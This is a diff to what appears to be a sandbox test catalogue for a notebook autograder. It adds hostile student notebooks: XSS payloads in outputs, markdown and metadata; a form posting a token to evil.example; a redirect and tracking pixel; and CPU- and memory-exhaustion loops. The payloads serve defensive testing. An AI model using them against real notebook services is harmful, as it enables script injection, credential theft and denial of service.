@@ -854,3 +854,77 @@ SANDBOX_VIEW = [
             injected(FILL_DISK, "complete", after="test_dropout_backward"), FULL, ()),
 ]
 CATALOGUE += SANDBOX_VIEW
+# --- Student markup and kernels that starve others (inert markup, a control group per kernel) ---
+
+PWNED = "window.__pwned"  # what every script vector below would set; tests/test_browser.py reads it
+EVIL = "http://evil.example"  # no page may ask it for anything
+_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=3"><script>window.__pwned=3; '
+        'document.title=`pwned`</script></svg>')
+MARKUP_CODE = f"""import base64, io
+from IPython.display import HTML, SVG, Image, Javascript, Markdown, display
+import matplotlib.pyplot as plt
+display(Javascript("{PWNED}=1; document.title='pwned'"))
+display(HTML('<img src=x onerror="{PWNED}=2; document.title=`pwned`">'))
+display(SVG('{_SVG}'))
+display(Markdown('<iframe srcdoc="<script>parent.__pwned=4</script>"></iframe> [go](javascript:{PWNED}=4)'))
+display(HTML('<meta http-equiv="refresh" content="0;url={EVIL}/refresh">'))
+display(HTML('<form action="{EVIL}/steal" method="post"><input name="token"><button>go</button></form>'))
+display(HTML('<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:red">'
+             'OVERLAY</div><style>body {{ visibility: hidden }}</style>'))
+display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "x", "version_major": 2, "version_minor": 0}},
+         "text/html": "<script>{PWNED}=8</script>"}}, raw=True)
+display({{"application/vnd.plotly.v1+json": {{"data": []}}, "text/html": '<img src="{EVIL}/pixel.png">'}}, raw=True)
+figure = plt.figure(figsize=(2, 2))
+plt.plot([0, 1], [0, 1])
+png = io.BytesIO()
+figure.savefig(png, format="png")
+plt.close(figure)
+display(Image(data=png.getvalue()))
+display({{"image/png": base64.b64encode(png.getvalue()).decode()}}, raw=True,
+        metadata={{"image/png": {{"width": '1" onerror="{PWNED}=13'}}}})
+print("plain text output: still shown <b>escaped</b>")
+"""
+MARKUP_MARKDOWN = (f'A student note. <img src=x onerror="{PWNED}=10"> <script>{PWNED}=10</script>\n\n'
+                   f'[click me](javascript:{PWNED}=10) ![remote]({EVIL}/remote.png) ![svg](attachment:evil.svg)\n\n'
+                   f'<a href="&#106;avascript:{PWNED}=10">encoded</a> <iframe src="{EVIL}/frame"></iframe>')
+MARKUP_RAW = f'<script>{PWNED}=11</script><img src=x onerror="{PWNED}=11">'
+MARKUP_SVG = base64.b64encode(_SVG.encode()).decode()
+
+
+def _markup(notebook):
+    """The complete notebook with markup vectors after its last test cell: rich outputs, a
+    markdown cell with raw HTML and an SVG attachment, a raw cell, hostile cell and notebook
+    metadata."""
+    after = _index(notebook, "test_dropout_backward") + 1
+    code = new_code_cell(MARKUP_CODE, metadata={"tags": [f'"><script>{PWNED}=12</script>']})
+    note = nbformat.v4.new_markdown_cell(MARKUP_MARKDOWN, attachments={"evil.svg": {"image/svg+xml": MARKUP_SVG}})
+    notebook.cells[after:after] = [code, note, nbformat.v4.new_raw_cell(MARKUP_RAW)]
+    notebook.metadata["title"] = f"</title><script>{PWNED}=14</script>"
+    notebook.metadata["language_info"] = {"name": f'python"><script>{PWNED}=15</script>'}
+    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
+
+
+MARKUP = edited(_markup)
+
+BUSY_SESSIONS = """import subprocess
+busy = [subprocess.Popen(['/bin/sh', '-c', 'while :; do :; done'], start_new_session=True) for _ in range(110)]
+print(len(busy), 'busy loops, each in a session of its own')
+"""
+RESIDENT_MEMORY = """chunks = []
+for _ in range(14):  # 3.5 GiB really used, each block under the 4 GiB address-space limit
+    chunks.append(b'x' * (256 * 1024 ** 2))
+"""
+
+CATALOGUE += [
+    Hostile("markup", "HTML, JavaScript, SVG, widgets, raw HTML and hostile metadata after correct code",
+            MARKUP, FULL, ()),
+    # 110 busy processes in sessions of their own share one kernel's CPU (its control group);
+    # the stubs score 0, and the correct submissions graded beside it keep every point.
+    Hostile("busy_sessions", "110 busy /bin/sh loops, each in its own session, stubs",
+            injected(BUSY_SESSIONS, "untouched"), 0, ()),
+    # Memory really used (not only reserved) stops at the kernel group's memory limit: the
+    # kernel is killed alone, at its last cell, and the cells before are re-checked.
+    Hostile("resident_memory", "fills 3.5 GiB of memory after correct code",
+            injected(RESIDENT_MEMORY, "complete", after="test_dropout_backward"), FULL,
+            ("kernel stopped", "re-checked the cells that ran before")),
+]
